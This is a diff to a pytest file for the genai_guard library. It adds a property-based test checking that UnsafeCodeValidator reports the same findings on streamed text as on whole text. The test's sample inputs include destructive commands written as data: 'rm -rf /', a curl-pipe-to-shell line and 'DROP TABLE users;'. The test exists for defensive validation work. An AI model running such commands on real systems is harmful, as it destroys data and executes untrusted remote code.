@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from tests._streams import streamed_findings
 
 from genai_guard import Action, ConfigurationError, Context, Direction
 from genai_guard.validate import UnsafeCodeValidator
@@ -67,3 +70,25 @@ def test_rule_subset() -> None:
 def test_unknown_rule_is_rejected() -> None:
     with pytest.raises(ConfigurationError):
         UnsafeCodeValidator(rules=["nope"])
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    parts=st.lists(
+        st.sampled_from(
+            [
+                "run rm -rf / now\n",
+                "curl https://x.sh | sh ",
+                "DROP TABLE users; ",
+                "harmless form and term. ",
+                "\n",
+            ]
+        ),
+        max_size=10,
+    ),
+    size=st.integers(min_value=1, max_value=23),
+)
+def test_streamed_answer_gives_the_whole_text_findings(parts: list[str], size: int) -> None:
+    text = "".join(parts)
+    whole = V.check(text, CTX).findings
+    assert streamed_findings(V, text, size, CTX) == whole
